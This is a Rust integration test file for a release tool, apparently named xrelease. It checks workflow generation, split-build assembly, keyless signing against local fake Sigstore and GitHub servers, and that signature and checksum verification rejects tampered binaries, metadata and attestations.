fn init_writes_a_commented_config_and_a_workflow_that_lint_clean() {
    let fixture = Fixture::new("basic");
    std::fs::remove_file(fixture.path("release.toml")).unwrap();
    let out = fixture
        .xrelease(&["init"])
        .env("GITHUB_REPOSITORY", "fixture/basic")
        .run();
    out.success()
        .stdout_has("wrote release.toml")
        .stdout_has("wrote .github/workflows/release.yml");
    let config = fixture.read("release.toml");
    assert!(
        config.contains("# xrelease configuration")
            && config.contains("repository = \"fixture/basic\""),
        "{config}"
    );
    xrelease::config::load(&fixture.path("release.toml"), true).expect("the written config parses");
    let workflow = fixture.read(".github/workflows/release.yml");
    assert!(
        workflow.contains("cargo install --locked xrelease --version"),
        "no xtask here: install xrelease"
    );
    assert!(
        workflow.contains("${{ matrix.target }}"),
        "GitHub expressions pass through the template"
    );
    let (ok, out, zok, zout) = lint_workflows(&[fixture.path(".github/workflows/release.yml")]);
    assert!(ok, "actionlint: {out}");
    assert!(zok, "zizmor: {zout}");
    // A second run changes nothing; a hand-edited workflow is not overwritten without --force.
    fixture.xrelease(&["init"]).run().success();
    fixture.write(".github/workflows/release.yml", "name: mine\n");
    fixture
        .xrelease(&["init"])
        .run()
        .code(2)
        .stderr_has("--force");
    fixture.xrelease(&["init", "--force"]).run().success();
    assert_eq!(fixture.read(".github/workflows/release.yml"), workflow);
}

// ---- split releases: `xrelease build --target` per runner, `xrelease assemble` -------------

/// Both targets' shares of the basic fixture, each built by its own `xrelease build --target`
/// in a fresh target directory (so nothing is reused from the single-machine build).
fn split_shares() -> &'static (tempfile::TempDir, [std::path::PathBuf; 2]) {
    static SHARES: std::sync::OnceLock<(tempfile::TempDir, [std::path::PathBuf; 2])> =
        std::sync::OnceLock::new();
    SHARES.get_or_init(|| {
        let (fixture, outcome) = basic_release();
        outcome.success();
        let scratch = tempfile::tempdir().unwrap();
        let shares = [
            scratch.path().join("share-amd64"),
            scratch.path().join("share-arm64"),
        ];
        for (target, dir) in [AMD64, "aarch64-unknown-linux-gnu"].iter().zip(&shares) {
            let target_dir = scratch.path().join(format!("target-{target}"));
            fixture
                .xrelease(&[
                    "build",
                    "v1.0.0",
                    "--target",
                    target,
                    "--quiet",
                    "--dist",
                    dir.to_str().unwrap(),
                ])
                .env("CARGO_TARGET_DIR", target_dir.to_str().unwrap())
                .run()
                .success();
        }
        (scratch, shares)
    })
}

fn share_copy(which: usize) -> (tempfile::TempDir, std::path::PathBuf) {
    let (_, shares) = split_shares();
    let scratch = tempfile::tempdir().unwrap();
    let dir = scratch.path().join("share");
    copy_tree(&shares[which], &dir);
    (scratch, dir)
}

#[test]
fn a_split_release_equals_a_single_machine_release() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let (_, shares) = split_shares();
    let names = |dir: &std::path::Path| -> Vec<String> {
        let mut n: Vec<String> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        n.sort();
        n
    };
    assert_eq!(
        names(&shares[0]),
        [
            "app-1.0.0-linux-amd64",
            "app-tool-1.0.0-linux-amd64",
            "manifest.json",
            "other-1.0.0-linux-amd64"
        ]
    );
    let share: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(shares[1].join("manifest.json")).unwrap())
            .unwrap();
    assert_eq!(
        share["toolchains"]
            .as_object()
            .unwrap()
            .keys()
            .collect::<Vec<_>>(),
        ["aarch64-unknown-linux-gnu"]
    );
    assert!(
        !share["builds"][0]["units"].as_array().unwrap().is_empty(),
        "the share carries what the SBOM needs"
    );

    fixture
        .xrelease(&[
            "assemble",
            "v1.0.0",
            shares[0].to_str().unwrap(),
            shares[1].to_str().unwrap(),
            "--dry-run",
            "--quiet",
            "--dist",
            "dist/assembled",
        ])
        .run()
        .success();
    let (single, split) = (fixture.path("dist/v1.0.0"), fixture.path("dist/assembled"));
    assert_eq!(
        sums_but_the_installer(&split),
        sums_but_the_installer(&single),
        "binaries and SBOMs built on separate 'runners' must be byte-identical"
    );
    // The installers differ only in the throwaway key each rehearsal signed with.
    assert_eq!(
        installer_but_the_key(&split),
        installer_but_the_key(&single)
    );
    let (code, report) = verify_json(
        &fixture.path("dist/assembled"),
        &fixture.path("dist/assembled/cosign.pub"),
    );
    assert_eq!((code, failed(&report)), (0, vec![]));
}

#[track_caller]
fn assemble_refuses(shares: &[&std::path::Path], needle: &str) {
    let (fixture, _) = basic_release();
    let dist = tempfile::tempdir().unwrap();
    let mut args = vec!["assemble", "v1.0.0"];
    let paths: Vec<String> = shares
        .iter()
        .map(|s| s.to_str().unwrap().to_string())
        .collect();
    args.extend(paths.iter().map(String::as_str));
    let out_dir = dist.path().join("out");
    args.extend(["--dry-run", "--dist", out_dir.to_str().unwrap()]);
    fixture
        .xrelease(&args)
        .run()
        .code(2)
        .stderr_has("cannot assemble: ")
        .stderr_has(needle);
    assert!(!out_dir.join("SHA256SUMS").exists(), "nothing is signed");
}

#[test]
fn assemble_refuses_a_missing_target() {
    let (_s, arm) = share_copy(1);
    assemble_refuses(&[&arm], "no share built x86_64-unknown-linux-gnu");
}

#[test]
fn assemble_refuses_a_duplicated_target() {
    let (_s, amd) = share_copy(0);
    let (_t, amd_again) = share_copy(0);
    let (_u, arm) = share_copy(1);
    assemble_refuses(
        &[&amd, &arm, &amd_again],
        "target x86_64-unknown-linux-gnu is in two shares",
    );
}

#[test]
fn assemble_refuses_a_tampered_binary() {
    let (_s, amd) = share_copy(0);
    let (_t, arm) = share_copy(1);
    flip_byte(&arm.join("other-1.0.0-linux-arm64"), 777);
    assemble_refuses(
        &[&amd, &arm],
        "other-1.0.0-linux-arm64 is not the binary its share recorded",
    );
}

#[test]
fn assemble_refuses_a_share_from_another_commit() {
    let (_s, amd) = share_copy(0);
    let (_t, arm) = share_copy(1);
    let path = arm.join("manifest.json");
    let (fixture, _) = basic_release();
    let head = fixture.git(&["rev-parse", "HEAD"]);
    let other = format!("{:0>40}", "1");
    std::fs::write(
        &path,
        std::fs::read_to_string(&path)
            .unwrap()
            .replace(&head, &other),
    )
    .unwrap();
    assemble_refuses(
        &[&amd, &arm],
        &format!("was built from commit {other}, but HEAD is {head}"),
    );
}

/// The release job of the generated workflow, run here with a tag push's `GITHUB_*` variables:
/// the plan's matrix, one share per target, then `assemble` for real — keyless signing through
/// the Actions token endpoint and a loopback Sigstore, publishing to a local GitHub.
#[test]
fn the_release_jobs_commands_publish_a_keyless_release_that_verifies() {
    use support::github_server::GitHubServer;
    use support::sigstore::{GITHUB_ISSUER, Options, Sigstore};
    let setup = publish::release::setup(); // the shared fixture, tagged v1.0.0 at HEAD
    let fixture = setup.fixture;
    let workflow_ref = "fixture/basic/.github/workflows/release.yml@refs/tags/v1.0.0";
    let identity = format!("https://github.com/{workflow_ref}");
    let claims = serde_json::json!({
        "sub": "repo:fixture/basic:ref:refs/tags/v1.0.0",
        "repository": "fixture/basic",
        "repository_owner": "fixture",
        "sha": fixture.git(&["rev-parse", "HEAD"]),
        "workflow_ref": workflow_ref,
        "job_workflow_ref": workflow_ref,
    });
    let sigstore = Sigstore::start_with(Options {
        claims: Some(claims),
        ..Options::default()
    });
    let token = "ghs_release_job_token_0123456789";
    let github = GitHubServer::builder()
        .repo("fixture", "basic")
        .token(token, true)
        .immutable(true)
        .start();

    // plan job: the matrix names the shares the build jobs make.
    let plan = fixture.xrelease(&["plan", "v1.0.0", "--json"]).run();
    plan.success();
    let plan: serde_json::Value = serde_json::from_str(&plan.stdout()).unwrap();
    let matrix: Vec<&str> = plan["include"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["target"].as_str().unwrap())
        .collect();
    assert_eq!(matrix, [AMD64, "aarch64-unknown-linux-gnu"]);
    let (_, shares) = split_shares(); // build jobs: `xrelease build "$TAG" --target "$TARGET"`

    // release job: assemble with the Actions environment of a tag push.
    let config_dir = tempfile::tempdir().unwrap();
    let text = format!(
        "[release]\nexclude-bins = [\"app-secret\"]\n\n[sign]\nmode = \"keyless\"\nfulcio-url = \"{}\"\nrekor-url = \"{}\"\ntrusted-root = \"{}\"\n\n[github]\nrepository = \"fixture/basic\"\n",
        sigstore.fulcio_url,
        sigstore.rekor_url,
        sigstore.trusted_root.display()
    );
    let config = fixture.config_outside(config_dir.path(), &text);
    let dist = "dist/release-job";
    let mut run = fixture.xrelease(&[
        "assemble",
        "v1.0.0",
        shares[0].to_str().unwrap(),
        shares[1].to_str().unwrap(),
        "--quiet",
        "--dist",
        dist,
    ]);
    let head = fixture.git(&["rev-parse", "HEAD"]);
    let api = github.api_url();
    for (k, v) in [
        ("GITHUB_ACTIONS", "true"),
        ("GITHUB_REPOSITORY", "fixture/basic"),
        ("GITHUB_REF", "refs/tags/v1.0.0"),
        ("GITHUB_REF_NAME", "v1.0.0"),
        ("GITHUB_SHA", head.as_str()),
        ("GITHUB_WORKFLOW_REF", workflow_ref),
        ("GITHUB_SERVER_URL", "https://github.com"),
        ("GITHUB_RUN_ID", "777"),
        ("GITHUB_RUN_ATTEMPT", "1"),
        ("GITHUB_EVENT_NAME", "push"),
        ("GITHUB_REPOSITORY_ID", "1001"),
        ("GITHUB_REPOSITORY_OWNER_ID", "2002"),
        ("RUNNER_ENVIRONMENT", "github-hosted"),
        (
            "ACTIONS_ID_TOKEN_REQUEST_URL",
            sigstore.token_request_url.as_str(),
        ),
        (
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
            sigstore.token_request_token.as_str(),
        ),
        ("GITHUB_TOKEN", token),
        ("GITHUB_API_URL", api.as_str()),
    ] {
        run = run.env(k, v);
    }
    let out = run.run_with_config(&config);
    out.success().stdout_has("published v1.0.0");

    // Published: exactly the release directory, as one non-draft release.
    let releases = github.releases("fixture", "basic");
    assert_eq!(releases.len(), 1);
    assert!(!releases[0].draft);
    let dir = fixture.path(dist);
    let mut local: Vec<(String, String)> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        // xrelease's own records stay local: nothing signs them.
        .filter(|p| {
            !["publish-plan.json", "manifest.json"]
                .contains(&p.file_name().unwrap().to_str().unwrap())
        })
        .map(|p| {
            (
                p.file_name().unwrap().to_string_lossy().into_owned(),
                format!("sha256:{}", sha256_hex(&std::fs::read(&p).unwrap())),
            )
        })
        .collect();
    local.sort();
    let mut remote: Vec<(String, String)> = releases[0]
        .assets
        .iter()
        .map(|a| (a.name.clone(), a.digest.clone()))
        .collect();
    remote.sort();
    assert_eq!(remote, local);
    assert!(
        local.iter().any(|(n, _)| n == "SHA256SUMS.pem"),
        "keyless: the certificate is published"
    );

    // What was published verifies offline against the workflow's identity.
    let verify = std::process::Command::new(env!("CARGO_BIN_EXE_xrelease"))
        .arg("verify")
        .arg(&dir)
        .args([
            "--certificate-identity",
            &identity,
            "--certificate-oidc-issuer",
            GITHUB_ISSUER,
            "--trusted-root",
        ])
        .arg(&sigstore.trusted_root)
        .args(["--repo", "fixture/basic", "--tag", "v1.0.0"])
        .output()
        .unwrap();
    let report = String::from_utf8_lossy(&verify.stdout);
    assert!(verify.status.success(), "{report}");
    let (_, provenance) = read_envelope(&dir.join("provenance.intoto.jsonl"));
    assert_eq!(
        provenance["predicate"]["runDetails"]["builder"]["id"],
        identity
    );
    assert_eq!(
        provenance["predicate"]["runDetails"]["metadata"]["invocationId"],
        "https://github.com/fixture/basic/actions/runs/777/attempts/1"
    );
    assert_never_leaked(token, &[&out], &[dir.as_path()]);
}

// ---- one file at a time: verify FILE... --from DIR ----------------------------------------

/// The keyed release split as a user who downloaded only some files has it: the binaries in
/// `downloads/`, the release's metadata (no binary) in `meta/`.
fn one_file_setup() -> (
    tempfile::TempDir,
    std::path::PathBuf,
    std::path::PathBuf,
    xrelease::signing::key::PrivateKey,
) {
    let (scratch, dir, key) = keyed_copy();
    let downloads = scratch.path().join("downloads");
    std::fs::create_dir(&downloads).unwrap();
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_str().unwrap().to_string();
        if name.contains("-1.0.0-linux-") && !name.contains(".cdx.") {
            std::fs::rename(&path, downloads.join(&name)).unwrap();
        }
    }
    (scratch, dir, downloads, key)
}

fn verify_from(
    files: &[std::path::PathBuf],
    from: &std::path::Path,
    key: &std::path::Path,
) -> (i32, serde_json::Value) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_xrelease"))
        .arg("verify")
        .args(files)
        .arg("--from")
        .arg(from)
        .arg("--key")
        .arg(key)
        .arg("--json")
        .output()
        .unwrap();
    let report = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!("{e}: {}", String::from_utf8_lossy(&out.stderr));
    });
    (out.status.code().unwrap(), report)
}

#[track_caller]
fn assert_from_fails(
    file: &std::path::Path,
    from: &std::path::Path,
    key: &std::path::Path,
    expected: &str,
) {
    let (code, report) = verify_from(&[file.to_path_buf()], from, key);
    let failures = failed(&report);
    assert_eq!(code, 3, "{failures:?}");
    assert!(
        failures.iter().any(|f| f.starts_with(expected)),
        "expected `{expected}…`, got {failures:?}"
    );
}

#[test]
fn one_binary_at_a_time_verifies_against_the_release_metadata() {
    let (_s, meta, downloads, _) = one_file_setup();
    let key = meta.join("cosign.pub");
    let binaries: Vec<std::path::PathBuf> = std::fs::read_dir(&downloads)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(binaries.len(), 6);
    for binary in &binaries {
        let name = binary.file_name().unwrap().to_str().unwrap();
        let (code, report) = verify_from(std::slice::from_ref(binary), &meta, &key);
        assert_eq!((code, failed(&report)), (0, Vec::<String>::new()), "{name}");
        let checks: Vec<String> = report["checks"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| {
                format!(
                    "{} {}",
                    c["check"].as_str().unwrap(),
                    c["subject"].as_str().unwrap()
                )
            })
            .collect();
        for needle in [
            format!("checksum {name}"),
            format!("checksum {name}.cdx.json"),
            "signature SHA256SUMS.sig".into(),
            "provenance subjects".into(),
            format!("sbom {name}.cdx.json"),
            format!("sbom-attest {name}.cdx.intoto.jsonl"),
        ] {
            assert!(checks.contains(&needle), "{needle}: {checks:?}");
        }
        // Only this binary's lines and attestation are checked, and nothing asks for the rest.
        assert_eq!(
            checks
                .iter()
                .filter(|c| c.starts_with("sbom-attest "))
                .count(),
            1
        );
    }
    let (code, report) = verify_from(&binaries, &meta, &key);
    assert_eq!((code, failed(&report)), (0, Vec::<String>::new()));
}

#[test]
fn one_binary_at_a_time_fails_for_each_tamper_of_what_it_uses() {
    let bin = "app-1.0.0-linux-amd64";
    let other = "other-1.0.0-linux-arm64";
    let setup = || {
        let (s, meta, downloads, key) = one_file_setup();
        let file = downloads.join(bin);
        (s, meta.clone(), file, meta.join("cosign.pub"), key)
    };

    // The binary itself changed.
    let (_s, meta, file, pubkey, _) = setup();
    flip_byte(&file, 4096);
    assert_from_fails(
        &file,
        &meta,
        &pubkey,
        &format!("checksum {bin}: expected sha256"),
    );

    // A file the release does not list (another name, or not a binary).
    let (_s, meta, file, pubkey, _) = setup();
    let renamed = file.with_file_name("app-1.0.1-linux-amd64");
    std::fs::rename(&file, &renamed).unwrap();
    assert_from_fails(&renamed, &meta, &pubkey, "file app-1.0.1-linux-amd64: ");

    // Its SHA256SUMS line edited to match a changed binary: the signature no longer verifies.
    let (_s, meta, file, pubkey, _) = setup();
    flip_byte(&file, 4096);
    let digest = sha256_hex(&std::fs::read(&file).unwrap());
    rewrite_sums(&meta, |t| {
        t.lines()
            .map(|l| {
                if l.ends_with(&format!("  {bin}")) {
                    format!("{digest}  {bin}\n")
                } else {
                    format!("{l}\n")
                }
            })
            .collect()
    });
    assert_from_fails(
        &file,
        &meta,
        &pubkey,
        "signature SHA256SUMS.sig: the signature does not verify",
    );

    // The signature is missing.
    let (_s, meta, file, pubkey, _) = setup();
    std::fs::remove_file(meta.join("SHA256SUMS.sig")).unwrap();
    assert_from_fails(
        &file,
        &meta,
        &pubkey,
        "signature SHA256SUMS.sig: SHA256SUMS.sig is missing",
    );

    // The provenance, correctly signed, names other bytes for this binary.
    let (_s, meta, file, pubkey, key) = setup();
    resign(&meta.join("provenance.intoto.jsonl"), &key, IN_TOTO, |st| {
        for s in st["subject"].as_array_mut().unwrap() {
            if s["name"] == bin {
                s["digest"]["sha256"] = serde_json::json!("0".repeat(64));
            }
        }
    });
    assert_from_fails(&file, &meta, &pubkey, "provenance subjects: ");

    // The provenance is missing.
    let (_s, meta, file, pubkey, _) = setup();
    std::fs::remove_file(meta.join("provenance.intoto.jsonl")).unwrap();
    assert_from_fails(
        &file,
        &meta,
        &pubkey,
        "attestation provenance.intoto.jsonl: provenance.intoto.jsonl is missing",
    );

    // Its SBOM changed.
    let (_s, meta, file, pubkey, _) = setup();
    flip_byte(&meta.join(format!("{bin}.cdx.json")), 200);
    assert_from_fails(
        &file,
        &meta,
        &pubkey,
        &format!("checksum {bin}.cdx.json: expected sha256"),
    );

    // Its SBOM attestation is another binary's.
    let (_s, meta, file, pubkey, _) = setup();
    std::fs::copy(
        meta.join(format!("{other}.cdx.intoto.jsonl")),
        meta.join(format!("{bin}.cdx.intoto.jsonl")),
    )
    .unwrap();
    assert_from_fails(
        &file,
        &meta,
        &pubkey,
        &format!("sbom-attest {bin}.cdx.intoto.jsonl: the subject must be {bin}"),
    );

    // Another key.
    let (_s, meta, file, _, _) = setup();
    let (_, other_key) = other_key(meta.parent().unwrap());
    assert_from_fails(
        &file,
        &meta,
        &other_key,
        "signature SHA256SUMS.sig: the signature does not verify",
    );
}

#[test]
fn verify_takes_one_directory_or_files_with_from() {
    let (_s, dir) = release_copy();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_xrelease"))
        .arg("verify")
        .arg(&dir)
        .arg(dir.join("app-1.0.0-linux-amd64"))
        .arg("--key")
        .arg(dir.join("cosign.pub"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("binaries with `--from DIR`"));
}

/// A fake GitHub serving `meta`'s files (edited by `edit` first) as release v1.0.0 of
/// fixture/basic, published.
fn github_with_release(
    meta: &std::path::Path,
    edit: impl FnOnce(&mut Vec<(String, Vec<u8>)>),
) -> support::github_server::GitHubServer {
    let server = support::github_server::GitHubServer::builder()
        .repo("fixture", "basic")
        .token("ghp_unused", true)
        .public(true)
        .start();
    let mut assets: Vec<(String, Vec<u8>)> = std::fs::read_dir(meta)
        .unwrap()
        .map(|e| e.unwrap().path())
        .map(|p| {
            let name = p.file_name().unwrap().to_str().unwrap().to_string();
            (name, std::fs::read(&p).unwrap())
        })
        .collect();
    edit(&mut assets);
    let refs: Vec<(&str, &[u8])> = assets
        .iter()
        .map(|(n, b)| (n.as_str(), b.as_slice()))
        .collect();
    server.seed_release("fixture", "basic", "v1.0.0", false, &refs);
    server
}

fn verify_github(
    server: &support::github_server::GitHubServer,
    file: &std::path::Path,
    spec: &str,
    key: &std::path::Path,
) -> (i32, serde_json::Value, String) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_xrelease"))
        .arg("verify")
        .arg(file)
        .args(["--github", spec])
        .arg("--key")
        .arg(key)
        .arg("--json")
        .env("GITHUB_API_URL", server.api_url())
        .env_remove("GITHUB_TOKEN")
        .output()
        .unwrap();
    let report = serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null);
    (
        out.status.code().unwrap(),
        report,
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn one_binary_verifies_against_the_published_release_on_github() {
    let (_s, meta, downloads, _) = one_file_setup();
    let trusted = meta.parent().unwrap().join("trusted.pub");
    std::fs::copy(meta.join("cosign.pub"), &trusted).unwrap();
    let bin = downloads.join("app-1.0.0-linux-amd64");

    // Anonymous reads of the public release: SHA256SUMS, its signature, the attestations.
    let server = github_with_release(&meta, |_| {});
    let (code, report, err) = verify_github(&server, &bin, "fixture/basic@v1.0.0", &trusted);
    assert_eq!((code, failed(&report)), (0, Vec::<String>::new()), "{err}");
    assert!(report["total"].as_u64().unwrap() >= 8);
    let log = server.log();
    assert!(log.iter().all(|e| e.method == "GET"), "{log:#?}");
    assert!(
        !log.iter().any(|e| e.path.contains("other-1.0.0")),
        "only this binary's metadata is fetched: {log:#?}"
    );
    // The provenance must name the repository and tag asked for (`--github`'s by default).
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_xrelease"))
        .arg("verify")
        .arg(&bin)
        .args([
            "--github",
            "fixture/basic@v1.0.0",
            "--repo",
            "fixture/other",
            "--json",
        ])
        .arg("--key")
        .arg(&trusted)
        .env("GITHUB_API_URL", server.api_url())
        .env_remove("GITHUB_TOKEN")
        .output()
        .unwrap();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        failed(&report)
            .iter()
            .any(|f| f.starts_with("provenance source: the provenance names")),
        "{:?}",
        failed(&report)
    );

    // Each tamper of what is fetched fails.
    let server = github_with_release(&meta, |assets| {
        let sums = assets.iter_mut().find(|(n, _)| n == "SHA256SUMS").unwrap();
        sums.1[0] = if sums.1[0] == b'0' { b'1' } else { b'0' };
    });
    let (code, report, _) = verify_github(&server, &bin, "fixture/basic@v1.0.0", &trusted);
    assert_eq!(code, 3);
    assert!(
        failed(&report)
            .iter()
            .any(|f| f.starts_with("signature SHA256SUMS.sig: the signature does not verify")),
        "{:?}",
        failed(&report)
    );
    let server = github_with_release(&meta, |assets| {
        assets.retain(|(n, _)| n != "app-1.0.0-linux-amd64.cdx.intoto.jsonl")
    });
    let (code, report, _) = verify_github(&server, &bin, "fixture/basic@v1.0.0", &trusted);
    assert_eq!(code, 3);
    assert!(
        failed(&report)
            .iter()
            .any(|f| f.starts_with("attestation app-1.0.0-linux-amd64.cdx.intoto.jsonl: ")),
        "{:?}",
        failed(&report)
    );
    let server = github_with_release(&meta, |_| {});
    let (code, _, err) = verify_github(&server, &bin, "fixture/basic@v2.0.0", &trusted);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("no published release v2.0.0 on fixture/basic"),
        "{err}"
    );
    let (code, _, err) = verify_github(&server, &bin, "fixture-basic", &trusted);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("expected OWNER/REPO@TAG"), "{err}");
}
